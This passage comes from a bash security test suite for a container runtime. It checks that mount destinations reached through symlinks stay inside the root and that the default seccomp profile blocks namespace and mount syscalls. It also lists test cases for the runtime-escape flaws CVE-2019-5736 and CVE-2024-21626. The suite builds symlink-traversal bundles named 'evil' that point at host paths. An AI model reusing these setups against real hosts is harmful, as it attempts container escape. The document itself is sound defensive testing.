    | .process.args=["sh","-c","cat /evil2/y/marker; awk \"{print \\$5}\" /proc/self/mountinfo"]' --arg src "$T_TMP/bindsrc") || exit 1
  ln -s "$host" "$b/rootfs/evil"
  ln -s "../../../../../../../../..$host" "$b/rootfs/evil2"
  capture rt run --bundle "$b" "$id"
  if ! refusal "destinations through symlinks"; then
    assert_contains "$OUT" from-bind "the bind mount is visible through the symlink inside"
    assert_contains "$OUT" "$host/x" "the tmpfs is mounted at the in-root resolution of /evil/x"
    assert_true "x was created inside the rootfs" test -d "$b/rootfs$host/x"
  fi
  assert_eq "" "$(ls -A "$host")" "nothing was created in the host directory the symlinks name"
  assert_eq "" "$(awk -v h="$host" 'index($5, h) == 1' /proc/self/mountinfo)" "nothing is mounted on the host path"
}

# The default seccomp profile from `<runtime> spec`, when that includes one. The process
# gets CAP_SYS_ADMIN on top of Docker's caps so that only the filter can refuse: without
# it unshare/mount/setns succeed or fail for other reasons (the control run shows which).
# Docker's rules: mount, unshare, setns, keyctl, bpf, io_uring and clone with namespace
# flags are EPERM; clone3 is ENOSYS (so that libc falls back to clone).
t_default_seccomp() {
  local profile
  if [[ -n "${MOOR_TEST_SECCOMP_CONFIG:-}" ]]; then
    # To check this case itself: a config.json whose .linux.seccomp is used instead
    # (for example one Docker generated, for runc, whose spec has no profile).
    profile=$(jq -c '.linux.seccomp // empty' "$MOOR_TEST_SECCOMP_CONFIG")
  else
    local specdir="$T_TMP/spec-$RANDOM"
    mkdir -p "$specdir"
    (cd "$specdir" && "$MOOR_RUNTIME" spec >/dev/null 2>&1) || skip "'$MOOR_RUNTIME spec' failed"
    profile=$(jq -c '.linux.seccomp // empty' "$specdir/config.json")
  fi
  [[ -n "$profile" ]] || skip "'$(basename "$MOOR_RUNTIME") spec' writes no seccomp profile"
  local id b caps
  caps=$(jq -c '. + ["CAP_SYS_ADMIN"]' <<<"$DOCKER_CAPS")
  id=$(new_id seccomp)
  b=$(probe_bundle "$id" "$DOCKER_LIKE"' | .linux.seccomp = $prof | .process.args=["/probe","syscalls"]' --argjson caps "$caps" --argjson prof "$profile") || exit 1
  capture rt run --bundle "$b" "$id"
  assert_eq 0 "$RC" "run with the spec's profile exits 0 (stderr: $(_clip "$ERR"))"
  local filtered=$OUT
  id=$(new_id seccomp)
  b=$(probe_bundle "$id" "$DOCKER_LIKE"' | .process.args=["/probe","syscalls"]' --argjson caps "$caps") || exit 1
  capture rt run --bundle "$b" "$id"
  local control=$OUT
  say "  with profile: $(tr '\n' ' ' <<<"$filtered")"
  say "  without:      $(tr '\n' ' ' <<<"$control")"
  assert_contains "$control" "unshare-mnt=OK" "control: without the profile unshare(CLONE_NEWNS) works (CAP_SYS_ADMIN)"
  assert_contains "$filtered" "unshare-mnt=EPERM" "unshare is EPERM"
  assert_contains "$filtered" "mount=EPERM" "mount is EPERM"
  assert_contains "$filtered" "setns=EPERM" "setns is EPERM"
  assert_contains "$filtered" "clone-newuts=EPERM" "clone with a namespace flag is EPERM"
  assert_contains "$filtered" "clone3=ENOSYS" "clone3 is ENOSYS"
  assert_contains "$filtered" "keyctl=EPERM" "keyctl is EPERM"
  assert_contains "$filtered" "bpf=EPERM" "bpf is EPERM"
  assert_contains "$filtered" "io_uring_setup=EPERM" "io_uring_setup is EPERM"
}

run_case "CVE-2019-5736: exec into a created container cannot write the runtime binary" t_5736_created_exec
run_case "CVE-2019-5736: #!/proc/self/exe exec cannot write the runtime binary" t_5736_shebang_exec
run_case "CVE-2024-21626: no leaked fds in the container process" t_21626_no_leaked_fds
run_case "CVE-2024-21626: no leaked fds in an exec'd process" t_21626_exec_no_leaked_fds
run_case "CVE-2024-21626: cwd /proc/self/fd/N never leaves the root" t_21626_cwd_proc_self_fd
run_case "the process's cwd is inside the container's root" t_cwd_inside_root
run_case "Docker-like config: CapInh and CapAmb are 0" t_capabilities_docker_like
run_case "sysctl injection is refused" t_sysctl_injection
run_case "masked paths are empty, read-only paths are read-only" t_masked_and_readonly
run_case "a /proc symlink in the rootfs is refused" t_proc_symlink
run_case "a /dev/null that is not the device is never used (masking, stdio)" t_dev_null_not_a_device
run_case "mount destinations through symlinks stay inside the root" t_mount_dest_through_symlink
run_case "the spec's default seccomp profile is enforced" t_default_seccomp

finish
